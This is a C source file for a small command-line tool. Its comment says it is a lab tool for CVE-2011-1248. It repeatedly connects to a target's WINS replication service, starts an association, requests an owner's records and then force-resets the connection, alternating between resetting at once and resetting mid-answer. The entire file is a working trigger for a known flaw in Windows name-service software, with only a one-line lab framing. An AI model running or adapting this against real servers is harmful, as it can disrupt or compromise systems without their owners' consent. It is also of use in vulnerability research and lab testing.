/*
 * A partner in WINS replication that breaks off, for the lab (CVE-2011-1248):
 *
 *	resets TARGET OWNER TIMES
 *
 * So often it connects, starts an association, asks for all records of OWNER, and resets the
 * connection: by turns at once, and after the first bytes of the answer. Prints how often it was.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <nbt/replication.h>

#define START_LEN 45

_Noreturn static void die(const char *what)
{
	fprintf(stderr, "resets: %s: %s\n", what, strerror(errno));
	exit(1);
}

static struct in_addr address(const char *text)
{
	struct in_addr out;

	if (inet_pton(AF_INET, text, &out) != 1)
		die(text);
	return out;
}

static void say(int fd, const struct nbt_replication *message)
{
	uint8_t buf[64];
	size_t len;

	if (nbt_replication_encode(message, buf, sizeof(buf), &len) != NBT_OK ||
	    send(fd, buf, len, MSG_NOSIGNAL) != (ssize_t)len)
		die("send");
}

/* The handle of the other side. */
static uint32_t associate(int fd)
{
	const struct nbt_replication start = {
		.type = NBT_REPL_START_REQUEST, .handle = 1, .major = 2, .minor = 5
	};
	struct nbt_replication response;
	uint8_t buf[START_LEN];

	say(fd, &start);
	if (recv(fd, buf, sizeof(buf), MSG_WAITALL) != sizeof(buf) ||
	    nbt_replication_decode(&response, buf, sizeof(buf)) != NBT_OK)
		die("start");
	return response.handle;
}

static void break_off(const struct sockaddr_in *target, struct in_addr owner, int is_late)
{
	const struct linger reset = { .l_onoff = 1 };
	struct nbt_replication request = { .type = NBT_REPL_MESSAGE,
					   .opcode = NBT_REPL_RECORDS_REQUEST,
					   .range = { .owner = owner, .min = 1 } };
	int fd = socket(AF_INET, SOCK_STREAM, 0);
	uint8_t byte[16];

	if (fd < 0 || connect(fd, (const struct sockaddr *)target, sizeof(*target)) < 0)
		die("connect");
	request.destination = associate(fd);
	say(fd, &request);
	if (is_late && recv(fd, byte, sizeof(byte), 0) <= 0)
		die("answer");
	if (setsockopt(fd, SOL_SOCKET, SO_LINGER, &reset, sizeof(reset)) < 0)
		die("linger");
	close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in target = { .sin_family = AF_INET,
				      .sin_port = htons(NBT_REPLICATION_PORT) };
	long times;

	if (argc != 4) {
		fprintf(stderr, "usage: resets TARGET OWNER TIMES\n");
		return 2;
	}
	target.sin_addr = address(argv[1]);
	times = strtol(argv[3], NULL, 10);
	for (long i = 0; i < times; i++)
		break_off(&target, address(argv[2]), i % 2 == 1);
	printf("%ld\n", times);
	return 0;
}
